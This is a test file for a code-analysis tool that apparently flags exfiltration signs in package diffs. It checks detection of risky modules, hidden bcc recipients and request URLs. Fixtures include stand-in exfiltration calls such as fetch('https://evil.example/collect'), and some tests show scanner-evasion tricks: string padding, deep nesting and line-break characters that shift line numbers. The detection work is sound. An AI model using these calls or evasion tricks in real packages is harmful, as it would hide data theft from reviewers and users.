import {
  collectFacts,
  collectLexicalFacts,
  MAX_FACTS_PER_KIND,
  moduleName,
} from '../../src/analysis/facts.js'
import { fileLines } from '../../src/diff/text.js'

test('reads modules from import, require, re-export and dynamic import', () => {
  const facts = collectFacts(
    'a.js',
    [
      "import x from 'node:fs/promises'",
      "const y = require('@scope/pkg/sub')",
      "export * from './local.js'",
      "const z = await import('undici')",
    ].join('\n'),
  )
  expect(facts.parsed).toBe(true)
  expect(facts.modules.map((m) => [m.module, m.line])).toEqual([
    ['fs', 1],
    ['@scope/pkg', 2],
    ['.', 3],
    ['undici', 4],
  ])
})

test('parses TypeScript and JSX files', () => {
  const ts = collectFacts(
    'a.ts',
    "import type { X } from 'y'\nconst a: number = 1 as number\nrequire('net')",
  )
  expect(ts.parsed).toBe(true)
  expect(ts.modules.map((m) => m.module)).toContain('net')
  const jsx = collectFacts('a.js', "const el = <div a='https://x.example'/>\nrequire('tls')")
  expect(jsx.parsed).toBe(true)
  expect(jsx.modules.map((m) => m.module)).toEqual(['tls'])
})

test('falls back to a lexical scan for code the parser rejects, and still finds recipients', () => {
  const facts = collectFacts(
    'broken.js',
    "const m = { bcc: 'spy@x.example' \n require('child_process') ))) {{",
  )
  expect(facts.parsed).toBe(false)
  expect(facts.modules.map((m) => m.module)).toEqual(['child_process'])
  expect(facts.recipients).toEqual([
    expect.objectContaining({ field: 'bcc', constants: ['spy@x.example'], line: 1 }),
  ])
})

test('survives nesting deeper than the parser can take', () => {
  const deep = '['.repeat(100_000) + ']'.repeat(100_000) + "\nrequire('dgram')"
  const facts = collectFacts('deep.js', deep)
  expect(facts.modules.map((m) => m.module)).toContain('dgram')
})

test('records recipients with their constant parts only', () => {
  const facts = collectFacts(
    'm.js',
    "send({ To: args.to, Cc: [args.cc, 'c@x.example'], 'h:Reply-To': 'r@x.example' })\nmsg.addBcc(`b@${'x.example'}`)",
  )
  expect(facts.recipients.map((r) => [r.field, r.constants])).toEqual([
    ['To', []],
    ['Cc', ['c@x.example']],
    ['h:Reply-To', ['r@x.example']],
    ['addBcc', ['b@x.example']],
  ])
})

test('marks strings that are request targets', () => {
  const facts = collectFacts('n.js', "fetch('https://a.example/x')\nconst s = 'https://b.example'")
  expect(facts.strings.filter((s) => s.target).map((s) => s.value)).toEqual(['https://a.example/x'])
  expect(facts.strings.map((s) => s.value)).toContain('https://b.example')
})

test('module names: strips node:, keeps the package of a subpath', () => {
  expect(moduleName('node:child_process')).toBe('child_process')
  expect(moduleName('@a/b/c/d')).toBe('@a/b')
  expect(moduleName('lodash/fp')).toBe('lodash')
})

describe('facts are kept by what they say, not capped by count', () => {
  const padding = (n: number): string =>
    Array.from({ length: n }, (_, i) => `const s${i} = 'harmless value ${i}'`).join('\n')

  test('a URL after 25,000 harmless strings is still seen (parsed and lexical)', () => {
    const code = `${padding(25_000)}\nfetch('https://exfil.padding.example/c')\n`
    const parsed = collectFacts('a.js', code)
    expect(parsed.parsed).toBe(true)
    expect(parsed.strings.map((s) => s.value)).toContain('https://exfil.padding.example/c')
    expect(parsed.incomplete).toBeUndefined()
    // A syntax error at the end: the whole file is scanned lexically.
    const lexical = collectFacts('b.js', `${code}\n}}} (`)
    expect(lexical.parsed).toBe(false)
    expect(lexical.strings.map((s) => s.value)).toContain('https://exfil.padding.example/c')
  })

  test('a string repeated 10,000 times is one fact, at its first place', () => {
    const code = Array.from({ length: 10_000 }, () => "log('https://same.example/x')").join('\n')
    const facts = collectFacts('a.js', code)
    const same = facts.strings.filter((s) => s.value === 'https://same.example/x')
    expect(same).toHaveLength(1)
    expect(same[0]!.line).toBe(1)
  })

  test('more distinct facts of one kind than the bound leaves the file incomplete, never silently cut', () => {
    const code = padding(MAX_FACTS_PER_KIND + 10)
    const facts = collectFacts('a.js', code)
    expect(facts.strings).toHaveLength(MAX_FACTS_PER_KIND)
    expect(facts.incomplete).toBe(
      `it holds more than ${MAX_FACTS_PER_KIND} distinct strings; the rest were not compared`,
    )
  })
})

describe('lines are the lines the diff shows', () => {
  // The parser breaks lines at U+2028 (even inside a string) and a lone \r;
  // a package could use that to point its finding at another line.
  const code = [
    "const s = 'a\u2028b\u2029c'",
    'const t = `x\ry`',
    'const u = 1\r\nconst v = 2\rconst w = 3',
    "fetch('https://evil.example/collect')",
  ].join('\n')
  const shown = fileLines(code).findIndex((l) => l.includes('evil.example')) + 1

  test('in parsed facts', () => {
    const facts = collectFacts('a.js', code)
    expect(facts.parsed).toBe(true)
    expect(shown).toBe(7)
    expect(facts.strings.find((s) => s.value.includes('evil.example'))?.line).toBe(shown)
  })

  test('in the lexical scan', () => {
    const facts = collectLexicalFacts('a.js', code)
    expect(facts.strings.find((s) => s.value.includes('evil.example'))?.line).toBe(shown)
  })
})

describe('the lexical scan reads a string by what stands just before it', () => {
  const lexical = (code: string) => collectLexicalFacts('a.js', code)

  test.each([
    ["require(  'child_process')", 'child_process'],
    ["import('node:https')", 'https'],
    ["import x from    'nodemailer'", 'nodemailer'],
  ])('%s is a module', (code, module) => {
    expect(lexical(code).modules.map((m) => m.module)).toEqual([module])
  })

  test.each(["load('child_process')", "perform(  'nodemailer')", "x = 'fs'"])(
    '%s is not a module',
    (code) => {
      expect(lexical(code).modules).toEqual([])
    },
  )

  test.each([
    ["{ bcc:  'spy@evil.example' }", 'bcc'],
    ["msg.cc = [ 'spy@evil.example' ]", 'cc'],
    ['{ "to"\t:\n[\t"spy@evil.example" ] }', 'to'],
    ["{ 'h:Bcc': 'spy@evil.example' }", 'h:Bcc'],
  ])('%s is a recipient', (code, field) => {
    expect(lexical(code).recipients.map((r) => r.field)).toEqual([field])
  })

  test.each([
    "log('bcc', 'spy@evil.example')",
    "bcc + 'spy@evil.example'",
    "{ subject: 'spy@evil.example' }",
  ])('%s is not a recipient', (code) => {
    expect(lexical(code).recipients).toEqual([])
  })
})
